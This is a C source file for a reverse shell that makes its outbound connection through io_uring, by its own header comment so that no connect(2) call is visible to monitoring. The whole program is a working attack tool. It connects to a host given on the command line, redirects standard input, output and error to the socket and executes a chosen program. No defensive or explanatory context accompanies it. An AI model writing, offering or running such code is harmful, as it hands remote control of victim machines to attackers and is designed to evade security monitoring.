/* A reverse shell whose connection is made by io_uring: no connect(2) for anybody to see.
 *
 * uring ADDRESS PORT PROGRAM [ARGS...]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static void *map(int ring, size_t size, off_t what)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, what);

	if (memory == MAP_FAILED)
		err(1, "mmap");
	return memory;
}

int main(int argc, char **argv)
{
	struct sockaddr_in in = { .sin_family = AF_INET };
	struct io_uring_params params = { 0 };
	struct io_uring_sqe *entries;
	struct io_uring_cqe *done;
	unsigned char *submission, *completion;
	int ring, fd;

	if (argc < 4)
		errx(2, "uring ADDRESS PORT PROGRAM [ARGS...]");
	in.sin_port = htons(strtoul(argv[2], NULL, 10));
	if (inet_pton(AF_INET, argv[1], &in.sin_addr) != 1)
		errx(2, "not an IPv4 address: %s", argv[1]);
	ring = syscall(SYS_io_uring_setup, 1, &params);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (ring < 0 || fd < 0)
		err(1, "io_uring_setup");
	submission = map(ring, params.sq_off.array + params.sq_entries * sizeof(unsigned int), IORING_OFF_SQ_RING);
	completion = map(ring, params.cq_off.cqes + params.cq_entries * sizeof(*done), IORING_OFF_CQ_RING);
	entries = map(ring, params.sq_entries * sizeof(*entries), IORING_OFF_SQES);

	entries[0] = (struct io_uring_sqe){
		.opcode = IORING_OP_CONNECT,
		.fd = fd,
		.addr = (unsigned long)&in,
		.off = sizeof(in),
	};
	((unsigned int *)(submission + params.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned int *)(submission + params.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		err(1, "io_uring_enter");
	done = (void *)(completion + params.cq_off.cqes);
	if (done->res) {
		errno = -done->res;
		err(1, "connect");
	}
	for (int stream = 0; stream < 3; stream++)
		dup2(fd, stream);
	execv(argv[3], argv + 3);
	err(1, "%s", argv[3]);
}
